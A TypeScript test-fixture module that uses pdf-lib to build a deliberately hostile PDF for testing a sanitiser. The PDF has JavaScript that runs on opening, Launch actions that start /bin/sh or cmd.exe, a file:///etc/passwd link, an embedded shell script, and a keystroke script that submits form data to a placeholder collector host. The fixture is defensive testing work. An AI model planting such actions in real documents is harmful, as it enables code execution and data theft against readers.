import {
  PDFArray,
  PDFDict,
  PDFDocument,
  PDFName,
  PDFRef,
  PDFString,
  StandardFonts,
  type PDFContext,
  type PDFPage,
} from 'pdf-lib';

/** The text on each page of the hostile fixture: what must survive sanitising. */
export function hostilePageText(page: number): string {
  return `Attached report page ${page}`;
}

function js(context: PDFContext, code: string): PDFDict {
  return context.obj({ S: 'JavaScript', JS: PDFString.of(code) });
}

function annotation(context: PDFContext, page: PDFPage, y: number, fields: Record<string, unknown>): PDFRef {
  return context.register(
    context.obj({
      Type: 'Annot',
      Rect: [50, y, 250, y + 20],
      Border: [0, 0, 0],
      P: page.ref,
      ...(fields as Record<string, never>),
    }),
  );
}

/**
 * A PDF an officer should never be able to publish, built from pdf-lib's low-level objects:
 * JavaScript on opening (/OpenAction, the /Names /JavaScript tree, catalog and page /AA), a link
 * that launches /bin/sh, links to other files (GoToR, GoToE, ImportData, a file: URI), a form
 * field that submits itself with a keystroke script, an /EmbeddedFiles tree and a FileAttachment,
 * an /AcroForm with /XFA, RichMedia and 3D annotations, and a GoTo link whose /Next runs a
 * script. What a reader needs is there too: text on every page (hostilePageText), an internal
 * GoTo link and a /Dest link from page 1 to page 2, and an https link. Saved with object streams,
 * so the hostile dictionaries are compressed out of sight of a plain grep.
 */
export async function hostilePdf(pages = 2): Promise<Buffer> {
  if (pages < 2) throw new Error('the fixture links page 1 to page 2');
  const doc = await PDFDocument.create();
  const context = doc.context;
  const font = await doc.embedFont(StandardFonts.Helvetica);
  const all = Array.from({ length: pages }, (_, i) => {
    const page = doc.addPage([595, 842]);
    page.drawText(hostilePageText(i + 1), { x: 50, y: 780, size: 14, font });
    page.drawText('Go to page 2', { x: 50, y: 704, size: 12, font });
    return page;
  });
  const [first, second] = all;

  const payload = context.register(
    context.stream('#!/bin/sh\necho owned\n', { Type: 'EmbeddedFile', Subtype: 'application/x-sh' }),
  );
  const filespec = (name: string) =>
    context.register(
      context.obj({ Type: 'Filespec', F: PDFString.of(name), UF: PDFString.of(name), EF: { F: payload } }),
    );

  for (const page of all) {
    page.node.set(
      PDFName.of('AA'),
      context.obj({
        O: js(context, "app.alert('page opened')"),
        C: { S: 'Launch', F: PDFString.of('/bin/sh') },
      }),
    );
  }

  const widget = annotation(context, first, 400, {
    Subtype: 'Widget',
    FT: 'Btn',
    Ff: 65536,
    T: PDFString.of('send'),
    A: { S: 'SubmitForm', F: { FS: 'URL', F: PDFString.of('http://collector.example/take') } },
    AA: { K: js(context, 'this.submitForm("http://collector.example/keys")') },
  });
  const xfa = context.register(context.stream('<xdp:xdp><script>app.alert(1)</script></xdp:xdp>'));

  const links: PDFRef[] = [
    annotation(context, first, 700, { Subtype: 'Link', A: { S: 'GoTo', D: [second.ref, 'Fit'] } }),
    annotation(context, first, 670, { Subtype: 'Link', Dest: [second.ref, 'XYZ', 0, 842, 0] }),
    annotation(context, first, 640, {
      Subtype: 'Link',
      A: { S: 'URI', URI: PDFString.of('https://www.example.go.th/report') },
    }),
    annotation(context, first, 610, {
      Subtype: 'Link',
      A: { S: 'Launch', F: PDFString.of('/bin/sh'), Win: { F: PDFString.of('cmd.exe') } },
    }),
    annotation(context, first, 580, {
      Subtype: 'Link',
      A: { S: 'URI', URI: PDFString.of('file:///etc/passwd') },
    }),
    annotation(context, first, 550, {
      Subtype: 'Link',
      A: { S: 'GoToR', F: PDFString.of('other.pdf'), D: [0, 'Fit'] },
    }),
    annotation(context, first, 520, {
      Subtype: 'Link',
      A: { S: 'GoToE', T: { R: 'C', N: PDFString.of('payload.pdf') } },
    }),
    annotation(context, first, 490, { Subtype: 'Link', A: { S: 'ImportData', F: PDFString.of('data.fdf') } }),
    annotation(context, first, 460, {
      Subtype: 'Link',
      A: { S: 'GoTo', D: [second.ref, 'Fit'], Next: js(context, "app.alert('chained')") },
    }),
    widget,
    annotation(context, first, 370, { Subtype: 'FileAttachment', FS: filespec('payload.sh') }),
    annotation(context, first, 340, {
      Subtype: 'RichMedia',
      RichMediaContent: { Assets: { Names: [PDFString.of('movie.swf'), filespec('movie.swf')] } },
    }),
    annotation(context, first, 310, {
      Subtype: '3D',
      '3DD': context.register(context.stream('U3D', { Type: '3D', Subtype: 'U3D' })),
    }),
  ];
  first.node.set(PDFName.of('Annots'), context.obj(links));

  const catalog = doc.catalog;
  catalog.set(PDFName.of('OpenAction'), js(context, "app.alert('document opened')"));
  catalog.set(PDFName.of('AA'), context.obj({ WC: js(context, "app.alert('closing')") }));
  catalog.set(
    PDFName.of('Names'),
    context.obj({
      JavaScript: { Names: [PDFString.of('init'), js(context, "app.launchURL('http://collector.example')")] },
      EmbeddedFiles: { Names: [PDFString.of('payload.sh'), filespec('payload.sh')] },
    }),
  );
  catalog.set(
    PDFName.of('AcroForm'),
    context.obj({ Fields: [widget], XFA: [PDFString.of('template'), xfa] }),
  );
  return Buffer.from(await doc.save({ useObjectStreams: true }));
}

/** The internal links of a PDF as [from page, to page] (1-based): GoTo actions and /Dest arrays to a page. */
export async function internalLinks(pdf: Uint8Array): Promise<[number, number][]> {
  const doc = await PDFDocument.load(pdf, { updateMetadata: false });
  const pageNumber = new Map(doc.getPages().map((p, i) => [p.ref.toString(), i + 1]));
  const links: [number, number][] = [];
  doc.getPages().forEach((page, i) => {
    const annots = page.node.lookupMaybe(PDFName.of('Annots'), PDFArray);
    for (let a = 0; a < (annots?.size() ?? 0); a++) {
      const annot = annots?.lookupMaybe(a, PDFDict);
      if (annot?.lookupMaybe(PDFName.of('Subtype'), PDFName) !== PDFName.of('Link')) continue;
      const action = annot.lookupMaybe(PDFName.of('A'), PDFDict);
      const goTo = action?.lookupMaybe(PDFName.of('S'), PDFName) === PDFName.of('GoTo');
      // Named destinations (a name or string) are not followed: the fixture's links are explicit.
      const dest = goTo ? action.lookup(PDFName.of('D')) : annot.lookup(PDFName.of('Dest'));
      const target = dest instanceof PDFArray ? dest.get(0) : undefined;
      const to = target instanceof PDFRef ? pageNumber.get(target.toString()) : undefined;
      if (to !== undefined) links.push([i + 1, to]);
    }
  });
  return links;
}

/** The http(s) links of a PDF's annotations. */
export async function webLinks(pdf: Uint8Array): Promise<string[]> {
  const doc = await PDFDocument.load(pdf, { updateMetadata: false });
  const uris: string[] = [];
  for (const page of doc.getPages()) {
    const annots = page.node.lookupMaybe(PDFName.of('Annots'), PDFArray);
    for (let a = 0; a < (annots?.size() ?? 0); a++) {
      const action = annots?.lookupMaybe(a, PDFDict)?.lookupMaybe(PDFName.of('A'), PDFDict);
      const uri = action?.lookupMaybe(PDFName.of('URI'), PDFString);
      if (uri && /^https?:/i.test(uri.decodeText())) uris.push(uri.decodeText());
    }
  }
  return uris;
}
